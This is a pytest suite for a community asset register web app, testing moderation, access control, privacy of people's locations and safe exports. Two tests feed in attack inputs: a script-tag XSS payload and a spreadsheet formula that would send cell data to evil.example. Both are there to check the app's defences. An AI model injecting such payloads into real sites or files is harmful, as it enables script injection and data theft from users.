"""The community asset register through the web site: suggest → moderate → published everywhere,
and the security rules around it."""

import io
import json
import re

import pytest
from fastapi.testclient import TestClient

from tests.web.helpers import csrf_of, sign_in, suggestion

pytestmark = pytest.mark.db


def suggest(client: TestClient, **changes: object) -> object:
    page = client.get("/assets/new")
    form = {**suggestion(**changes), "csrf_token": csrf_of(page.text)}
    return client.post("/assets/new", data=form, follow_redirects=False)


def approve(client: TestClient, asset_id: str, page_text: str) -> None:
    data = {"action": "approve", "csrf_token": csrf_of(page_text)}
    assert client.post(f"/moderation/assets/{asset_id}", data=data, follow_redirects=False).status_code == 303


def queued_ids(client: TestClient) -> list[str]:
    import re

    return re.findall(r'id="submitted-([0-9a-f-]{36})"', client.get("/moderation").text)


def test_visitor_suggestion_is_moderated_then_published_everywhere(register: TestClient) -> None:
    response = suggest(register)
    assert response.status_code == 303 and response.headers["location"] == "/assets?submitted=1"
    assert "Levenshulme Community Garden" not in register.get("/assets?q=Levenshulme").text  # not yet public

    sign_in(register, "mod@example.org")
    (asset_id,) = queued_ids(register)
    page = register.get("/moderation")
    decision = register.post(
        f"/moderation/assets/{asset_id}",
        data={"action": "approve", "csrf_token": csrf_of(page.text)},
        follow_redirects=False,
    )
    assert decision.status_code == 303
    register.app.state.asset_refresher.wait(120)  # type: ignore[attr-defined]

    listed = register.get("/assets?q=Levenshulme").text
    assert f'href="/assets/{asset_id}"' in listed
    points = register.get("/assets/map.geojson?bbox=-2.3,53.4,-2.1,53.5").json()["features"]
    assert asset_id in {f["properties"]["id"] for f in points}
    detail = register.get(f"/assets/{asset_id}")
    assert detail.status_code == 200 and "Volunteers grow food" in detail.text
    # placed in its Manchester LSOA, listed by area
    assert f'href="/assets/{asset_id}"' in register.get("/assets?area=E08000003").text


def test_form_errors_are_summarised_and_nothing_is_saved(register: TestClient) -> None:
    response = suggest(register, name="", dimensions=[], latitude="95", longitude="-2")
    assert response.status_code == 400  # type: ignore[attr-defined]
    text = response.text  # type: ignore[attr-defined]
    assert "govuk-error-summary" in text and 'href="#name"' in text and 'href="#dimensions"' in text
    sign_in(register, "mod@example.org")
    assert queued_ids(register) == []


def test_post_without_csrf_token_is_refused(register: TestClient) -> None:
    response = register.post("/assets/new", data=suggestion(), follow_redirects=False)
    assert response.status_code == 403
    forged = register.post(
        "/assets/new", data={**suggestion(), "csrf_token": "guess"}, follow_redirects=False
    )
    assert forged.status_code == 403
    sign_in(register, "mod@example.org")
    assert queued_ids(register) == []


def test_contributor_cannot_edit_another_contributors_asset(register: TestClient) -> None:
    sign_in(register, "ann@example.org")
    created = suggest(register)
    asset_id = created.headers["location"].split("/")[2].split("?")[0]  # type: ignore[attr-defined]
    assert register.get(f"/assets/{asset_id}/edit").status_code == 200
    register.cookies.clear()
    sign_in(register, "bob@example.org")
    page = register.get("/assets")
    assert register.get(f"/assets/{asset_id}/edit").status_code == 403
    attempt = register.post(
        f"/assets/{asset_id}/edit",
        data={**suggestion(name="Hijacked"), "csrf_token": csrf_of(page.text)},
        follow_redirects=False,
    )
    assert attempt.status_code == 403
    register.cookies.clear()
    sign_in(register, "mod@example.org")
    assert "Hijacked" not in register.get(f"/assets/{asset_id}").text


def test_script_in_description_and_story_is_shown_as_text(register: TestClient) -> None:
    attack = "<script>alert('x')</script>"
    sign_in(register, "mod@example.org")
    created = suggest(register, name=f"Garden {attack}", description=f"Nice {attack}")
    asset_id = created.headers["location"].split("/")[2].split("?")[0]  # type: ignore[attr-defined]
    page = register.get("/moderation")
    register.post(
        f"/moderation/assets/{asset_id}", data={"action": "approve", "csrf_token": csrf_of(page.text)}
    )
    detail = register.get(f"/assets/{asset_id}")
    story = register.post(
        f"/assets/{asset_id}/stories",
        data={"title": f"Hello {attack}", "body": f"Body {attack}", "csrf_token": csrf_of(detail.text)},
        follow_redirects=False,
    )
    assert story.status_code == 303
    moderation = register.get("/moderation").text
    for text in (register.get(f"/assets/{asset_id}").text, moderation):
        assert attack not in text
        assert "&lt;script&gt;" in text


def test_submission_rate_limit_holds(register: TestClient) -> None:
    statuses = [suggest(register, name=f"Group {n}").status_code for n in range(12)]  # type: ignore[attr-defined]
    assert statuses[:10] == [303] * 10
    assert statuses[10:] == [429, 429]


def test_login_rate_limit_and_wrong_password(register: TestClient) -> None:
    page = register.get("/login")
    token = csrf_of(page.text)
    codes = [
        register.post(
            "/login", data={"email": "mod@example.org", "password": "wrong", "csrf_token": token}
        ).status_code
        for _ in range(6)
    ]
    assert codes == [400] * 5 + [429]


def test_honeypot_discards_robot_submissions(register: TestClient) -> None:
    response = suggest(register, website_url_confirm="http://spam.example")
    assert response.status_code == 303  # type: ignore[attr-defined]
    sign_in(register, "mod@example.org")
    assert queued_ids(register) == []


def test_failed_bulk_import_writes_nothing(register: TestClient) -> None:
    sign_in(register, "mod@example.org")
    before = register.get("/assets").text.count('class="govuk-link" href="/assets/')
    bad = (
        "name,asset_type,dimensions,latitude,longitude\n"
        "Good one,association,community_economy,53.48,-2.24\n"
        "Bad one,spaceship,community_economy,53.48,-2.24\n"
    )
    page = register.get("/moderation")
    response = register.post(
        "/moderation/import",
        data={"csrf_token": csrf_of(page.text)},
        files={"file": ("assets.csv", io.BytesIO(bad.encode()), "text/csv")},
    )
    assert response.status_code == 400
    assert "row 2" in response.text and "asset_type" in response.text
    assert register.get("/assets").text.count('class="govuk-link" href="/assets/') == before
    assert "Good one" not in register.get("/assets?q=Good").text


def test_only_moderators_moderate_and_admins_manage_accounts(register: TestClient) -> None:
    assert register.get("/moderation", follow_redirects=False).status_code == 303  # to sign in
    sign_in(register, "ann@example.org")
    assert register.get("/moderation").status_code == 403
    assert register.get("/admin/users").status_code == 403
    register.cookies.clear()
    sign_in(register, "admin@example.org")
    page = register.get("/admin/users")
    assert page.status_code == 200 and "ann@example.org" in page.text
    created = register.post(
        "/admin/users",
        data={
            "action": "create",
            "email": "new@example.org",
            "password": "another long password",
            "role": "moderator",
            "csrf_token": csrf_of(page.text),
        },
        follow_redirects=False,
    )
    assert created.status_code == 303
    assert "new@example.org" in register.get("/admin/users").text


def test_people_assets_need_consent_and_hide_contact(register: TestClient) -> None:
    refused = suggest(
        register,
        name="Maria's sewing skills",
        asset_type="individual",
        is_person="yes",
        email="maria@example.org",
    )
    assert refused.status_code == 400 and "agreed to be listed" in refused.text  # type: ignore[attr-defined]
    sign_in(register, "mod@example.org")
    created = suggest(
        register,
        name="Maria's sewing skills",
        asset_type="individual",
        is_person="yes",
        consent="yes",
        email="maria@example.org",
        phone="0161 000 0000",
    )
    asset_id = created.headers["location"].split("/")[2].split("?")[0]  # type: ignore[attr-defined]
    page = register.get("/moderation")
    register.post(
        f"/moderation/assets/{asset_id}", data={"action": "approve", "csrf_token": csrf_of(page.text)}
    )
    register.cookies.clear()
    public = register.get(f"/assets/{asset_id}").text
    assert "Maria" in public and "maria@example.org" not in public and "0161 000 0000" not in public
    exported = register.get("/assets/export.geojson").json()
    assert "maria@example.org" not in json.dumps(exported)


def test_moderator_deletes_restores_and_erases(register: TestClient) -> None:
    sign_in(register, "mod@example.org")
    created = suggest(register)
    asset_id = created.headers["location"].split("/")[2].split("?")[0]  # type: ignore[attr-defined]
    page = register.get(f"/assets/{asset_id}")
    approve(register, asset_id, page.text)

    def act(action: str, **extra: str) -> int:
        token = csrf_of(register.get(f"/assets/{asset_id}").text)
        data = {"action": action, "csrf_token": token, **extra}
        return register.post(f"/moderation/assets/{asset_id}", data=data, follow_redirects=False).status_code

    assert act("delete", back=f"/assets/{asset_id}") == 303
    register.cookies.clear()
    assert register.get(f"/assets/{asset_id}").status_code == 404  # hidden from the public
    sign_in(register, "mod@example.org")
    assert "Restore" in register.get(f"/assets/{asset_id}").text
    assert act("restore") == 303
    register.cookies.clear()
    assert register.get(f"/assets/{asset_id}").status_code == 200
    sign_in(register, "mod@example.org")
    assert act("erase") == 400  # not confirmed
    assert act("erase", confirm="erase") == 303
    assert register.get(f"/assets/{asset_id}").status_code == 404


def test_admin_renames_tags_and_reads_the_audit_log(register: TestClient) -> None:
    sign_in(register, "ann@example.org")
    suggest(register, name="Knit and natter", tags="knitting, craft")
    suggest(register, name="Crochet club", tags="crochet, craft")
    register.cookies.clear()
    sign_in(register, "admin@example.org")
    page = register.get("/admin/taxonomies")
    assert page.status_code == 200 and "craft (2)" in page.text
    renamed = register.post(
        "/admin/taxonomies",
        data={"old_tag": "knitting", "new_tag": "crochet", "csrf_token": csrf_of(page.text)},
        follow_redirects=False,
    )
    assert renamed.status_code == 303 and renamed.headers["location"].endswith("done=1")
    page = register.get("/admin/taxonomies").text
    assert "crochet (2)" in page and "knitting" not in page
    log = register.get("/admin/audit?entity=asset").text
    assert "retag" in log and "create" in log and "ann@example.org" in log and "admin@example.org" in log
    register.cookies.clear()
    sign_in(register, "mod@example.org")
    assert register.get("/admin/audit").status_code == 403


def _published_person(register: TestClient) -> str:
    """A person entered with an address and only a postcode (geocoded to its centroid), approved."""
    sign_in(register, "mod@example.org")
    created = suggest(
        register,
        name="Storytelling with Ann",
        asset_type="individual",
        dimensions=["personal_capacity"],
        is_person="yes",
        consent="yes",
        physical="no",
        address="1 Private Road, Hulme",
        postcode="M15 5RF",
        latitude="",
        longitude="",
    )
    asset_id = created.headers["location"].split("/")[2].split("?")[0]  # type: ignore[attr-defined]
    approve(register, asset_id, register.get("/moderation").text)
    register.app.state.asset_refresher.wait(120)  # type: ignore[attr-defined]
    return asset_id


# M15 5RF's centroid in the bundled postcode lookup, as the form stores it (6 dp) and shorter
EXACT = ("53.465469", "-2.248348", "53.4654", "-2.2483")


def _leaks(text: str) -> list[str]:
    return [s for s in ("Private Road", "M15 5RF", "M15%205RF", *EXACT) if s in text]


def test_a_person_is_shown_publicly_only_at_an_approximate_location(register: TestClient) -> None:
    asset_id = _published_person(register)
    moderator_view = register.get(f"/assets/{asset_id}").text
    assert "Private Road" in moderator_view and "53.46547" in moderator_view  # moderators see all
    register.cookies.clear()

    listed = register.get("/assets?q=Storytelling").text
    assert f'href="/assets/{asset_id}"' in listed and _leaks(listed) == []
    assert "Approximate location" in listed
    detail = register.get(f"/assets/{asset_id}").text
    assert "Storytelling with Ann" in detail and _leaks(detail) == []
    assert 'id="approximate-location"' in detail and "E01005208" not in detail  # nor its LSOA

    points = register.get("/assets/map.geojson?bbox=-2.4,53.4,-2.1,53.6").json()["features"]
    (person,) = [f for f in points if f["properties"]["id"] == asset_id]
    lon, lat = person["geometry"]["coordinates"]
    assert person["properties"]["approximate"] is True
    assert (lat, lon) != (53.465469, -2.248348) and abs(lat - 53.465469) < 0.01 and abs(lon + 2.248348) < 0.02
    assert _leaks(json.dumps(points)) == []
    # a tiny box around the exact point does not find the person (only one around the coarse point does)
    tiny = register.get("/assets/map.geojson?bbox=-2.24836,53.46546,-2.24833,53.46548").json()
    assert asset_id not in {f["properties"]["id"] for f in tiny["features"]}
    near = f"{lon - 0.0001},{lat - 0.0001},{lon + 0.0001},{lat + 0.0001}"
    found = register.get(f"/assets/map.geojson?bbox={near}").json()["features"]
    assert asset_id in {f["properties"]["id"] for f in found}
    # nor does listing by its small area (LSOA) find them
    assert f'href="/assets/{asset_id}"' not in register.get("/assets?area=E01005208").text

    for fmt in ("csv", "geojson"):
        exported = register.get(f"/assets/export.{fmt}").text
        assert "Storytelling with Ann" in exported and _leaks(exported) == [], fmt
    feed = json.dumps(
        [
            register.get("/openreferral/services", params={"per_page": 1000}).json(),
            register.get(f"/openreferral/services/{asset_id}").json(),
            register.get("/openreferral/service_at_locations", params={"per_page": 1000}).json(),
        ]
    )
    assert "Storytelling with Ann" in feed and _leaks(feed) == []


def test_a_contributors_edit_of_a_published_asset_is_re_moderated(register: TestClient) -> None:
    sign_in(register, "ann@example.org")
    created = suggest(register)
    asset_id = created.headers["location"].split("/")[2].split("?")[0]  # type: ignore[attr-defined]
    register.cookies.clear()
    sign_in(register, "mod@example.org")
    approve(register, asset_id, register.get("/moderation").text)
    register.cookies.clear()

    sign_in(register, "ann@example.org")
    form = register.get(f"/assets/{asset_id}/edit")
    edited = {**suggestion(name="Levenshulme Grow Together"), "csrf_token": csrf_of(form.text)}
    saved = register.post(f"/assets/{asset_id}/edit", data=edited, follow_redirects=False)
    assert saved.status_code == 303 and saved.headers["location"] == f"/assets/{asset_id}?pending=1"
    assert 'id="pending-edit"' in register.get(f"/assets/{asset_id}").text
    register.cookies.clear()
    for page in (f"/assets/{asset_id}", "/assets?q=Levenshulme", "/openreferral/services"):
        text = register.get(page).text
        assert "Levenshulme Grow Together" not in text, page  # the published version stays
    assert "Levenshulme Community Garden" in register.get(f"/assets/{asset_id}").text

    sign_in(register, "mod@example.org")
    queue = register.get("/moderation").text
    (revision,) = re.findall(r'id="edit-(\d+)"', queue)
    assert "Levenshulme Grow Together" in queue
    refused = register.post(
        f"/moderation/edits/{revision}", data={"action": "reject", "csrf_token": csrf_of(queue)}
    )
    assert refused.status_code == 400 and "reason" in refused.text
    decided = register.post(
        f"/moderation/edits/{revision}",
        data={"action": "approve", "csrf_token": csrf_of(queue)},
        follow_redirects=False,
    )
    assert decided.status_code == 303
    register.cookies.clear()
    assert "Levenshulme Grow Together" in register.get(f"/assets/{asset_id}").text


def test_a_story_photo_is_served_only_once_the_story_is_published(register: TestClient) -> None:
    from PIL import Image

    sign_in(register, "mod@example.org")
    created = suggest(register)
    asset_id = created.headers["location"].split("/")[2].split("?")[0]  # type: ignore[attr-defined]
    approve(register, asset_id, register.get("/moderation").text)
    image = io.BytesIO()
    Image.new("RGB", (40, 30), "green").save(image, format="PNG")
    detail = register.get(f"/assets/{asset_id}")
    posted = register.post(
        f"/assets/{asset_id}/stories",
        data={"title": "Harvest day", "body": "We picked beans.", "csrf_token": csrf_of(detail.text)},
        files={"photo": ("beans.png", image.getvalue(), "image/png")},
        follow_redirects=False,
    )
    assert posted.status_code == 303
    queue = register.get("/moderation").text
    (story_id,) = re.findall(r'action="/moderation/stories/([0-9a-f-]{36})"', queue)
    assert register.get(f"/stories/{story_id}/photo").status_code == 404  # not yet published
    register.post(f"/moderation/stories/{story_id}", data={"action": "approve", "csrf_token": csrf_of(queue)})
    photo = register.get(f"/stories/{story_id}/photo")
    assert photo.status_code == 200 and photo.headers["content-type"].startswith("image/")
    assert register.get("/stories/00000000-0000-0000-0000-000000000000/photo").status_code == 404


def test_asset_export_defuses_formula_cells(register: TestClient) -> None:
    import csv

    sign_in(register, "mod@example.org")
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    created = suggest(register, name=attack, description="@SUM(1+1)")
    asset_id = created.headers["location"].split("/")[2].split("?")[0]  # type: ignore[attr-defined]
    approve(register, asset_id, register.get("/moderation").text)
    export = register.get("/assets/export.csv")
    assert export.status_code == 200
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(export.text))}
    assert rows[asset_id]["name"] == "'" + attack and rows[asset_id]["description"] == "'@SUM(1+1)"
    assert rows[asset_id]["longitude"] == "-2.1917"  # a negative number stays a number


def test_bulk_import_is_parsed_off_the_event_loop(
    register: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    import asyncio

    from healthassets.errors import InputError
    from healthassets.web.routes import moderation

    loops: list[bool] = []

    def parse(*_args: object, **_options: object) -> None:
        try:
            asyncio.get_running_loop()
            loops.append(True)
        except RuntimeError:
            loops.append(False)
        raise InputError("checked")

    monkeypatch.setattr(moderation, "import_asset_file", parse)
    sign_in(register, "mod@example.org")
    page = register.get("/moderation")
    response = register.post(
        "/moderation/import",
        data={"csrf_token": csrf_of(page.text)},
        files={"file": ("assets.csv", io.BytesIO(b"name\n"), "text/csv")},
    )
    assert response.status_code == 400 and loops == [False]
